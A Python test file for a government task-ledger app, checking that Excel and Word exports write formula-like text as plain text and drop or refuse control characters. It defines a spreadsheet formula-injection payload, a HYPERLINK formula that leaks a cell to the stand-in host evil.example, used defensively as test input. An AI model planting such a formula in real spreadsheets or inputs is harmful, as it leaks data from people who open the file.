"""Exports cannot be poisoned (S-13: the ledger's materials are stored and archived safely).

Text people typed is written into .xlsx as text, never as a formula, and control characters —
refused on input, but possibly stored before — are left out of .xlsx and .docx instead of
breaking the file for everyone.
"""

from __future__ import annotations

import io

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook

from zhengwu.assessment.exports import assessment_workbook
from zhengwu.assessment.selectors import Period
from zhengwu.core import clock
from zhengwu.core.exports import workbook_bytes
from zhengwu.supervision.models import Feedback, Task
from zhengwu.supervision.tests.helpers import MONDAY, task
from zhengwu.weekly import exports as weekly_exports
from zhengwu.weekly.models import ReportKind, WeeklyReport
from zhengwu.weekly.tests.helpers import FRIDAY, draft, ledger_week

pytestmark = pytest.mark.django_db

POISON = '=HYPERLINK("http://evil.example/?leak="&C5,"点击查看")'
TRIGGERS = [POISON, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, *expected: str) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert any(text in v for v in values), text


def test_S13_ledger_export_writes_formula_like_text_as_text(client, cast) -> None:
    with clock.frozen(MONDAY):
        for i, text in enumerate(TRIGGERS):
            task(cast, title=f"{text}", content=f"{text} {i}")
    client.force_login(cast.office_staff)
    response = client.get("/supervision/export.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.content, POISON, "@SUM(A1:A9)")


def test_S13_every_workbook_leaves_through_the_guard() -> None:
    """Whatever an exporter puts in a cell, the saved workbook holds no formula."""
    book = Workbook()
    book.active.append(TRIGGERS)
    book.create_sheet("二").cell(row=1, column=1, value="=1+1")
    _assert_no_formula(workbook_bytes(book), POISON)


def test_S13_assessment_workbook_writes_formula_like_text_as_text(cast) -> None:
    with clock.frozen(MONDAY):
        task(cast, title=POISON)
    content, _summary = assessment_workbook(cast.director, period=Period(MONDAY.year))
    _assert_no_formula(content, POISON)


def test_S13_stored_control_characters_are_left_out_of_the_exports(client, cast) -> None:
    weeks = ledger_week(cast)
    Task.objects.filter(pk=weeks["leader"].pk).update(title="扬尘\u0001专项\u000b检查",
                                                      content="内容\u001f")  # fmt: skip
    draft(cast, FRIDAY)
    report = WeeklyReport.objects.get(kind=ReportKind.LEADER, leader=cast.leader)
    stored = WeeklyReport.objects.filter(pk=report.pk)
    stored.update(summary="本周\u0001小结", problems="\u000b问题")
    report.refresh_from_db()

    client.force_login(cast.office_staff)
    ledger = client.get("/supervision/export.xlsx")
    assert ledger.status_code == 200
    texts = [c.value for c in _cells(ledger.content) if isinstance(c.value, str)]
    assert any("扬尘专项检查" in t for t in texts)
    assert not any("\u0001" in t or "\u000b" in t for t in texts)

    notice = client.get(f"/supervision/tasks/{weeks['leader'].pk}/notice.docx")
    assert notice.status_code == 200
    body = "\n".join(p.text for p in Document(io.BytesIO(notice.content)).paragraphs)
    tables = "\n".join(
        c.text for t in Document(io.BytesIO(notice.content)).tables for r in t.rows for c in r.cells
    )
    assert "扬尘专项检查" in tables and "\u0001" not in body + tables

    word = Document(io.BytesIO(weekly_exports.report_docx(report, reader=cast.leader)))
    text = "\n".join(p.text for p in word.paragraphs)
    assert "本周小结" in text and "\u0001" not in text


@pytest.mark.parametrize("character", ["\u0001", "\u000b", "\u001f", "\u0000", "\u0008"])
def test_S13_api_refuses_control_characters_with_a_message(client, cast, character) -> None:
    with clock.frozen(MONDAY):
        t = task(cast)
    milestone = t.milestones.first()
    client.force_login(cast.air_head)
    response = client.post(
        f"/api/v1/supervision/milestones/{milestone.pk}/feedback",
        {"text": f"已部署{character}落实"},
        content_type="application/json",
    )
    assert response.status_code == 422
    assert "控制字符" in response.json()["message"] and "control" in response.json()["message"]
    assert not Feedback.objects.exists()


def test_S13_tab_and_newlines_are_kept(client, cast) -> None:
    with clock.frozen(MONDAY):
        t = task(cast)
    milestone = t.milestones.first()
    client.force_login(cast.air_head)
    response = client.post(
        f"/api/v1/supervision/milestones/{milestone.pk}/feedback",
        {"text": "一、部署\r\n\t二、落实"},
        content_type="application/json",
    )
    assert response.status_code == 201
    assert Feedback.objects.get().text == "一、部署\r\n\t二、落实"


def test_S13_page_forms_refuse_control_characters_with_a_message(client, cast) -> None:
    client.force_login(cast.office_staff)
    response = client.post(
        "/supervision/meetings/new/", {"title": "局长办公会\u000b", "held_on": "2026-03-02"}
    )
    assert response.status_code == 422
    assert "控制字符" in response.content.decode()
    assert not Task.objects.exists()


def test_S13_excel_import_refuses_control_characters(cast) -> None:
    from zhengwu.supervision import importer

    headers = ["督办事项", "主办单位", "交办领导"]
    mapping = importer.guess_mapping(headers)
    rows = [["扬尘\u0001检查", "大气科", "副局长乙"], ["扬尘检查", "大气科", "副局长乙"]]
    bad, good = importer.check_rows(cast.bureau, rows, mapping)
    assert any("控制字符" in str(e) for e in bad.errors)
    assert not any("控制字符" in str(e) for e in good.errors)
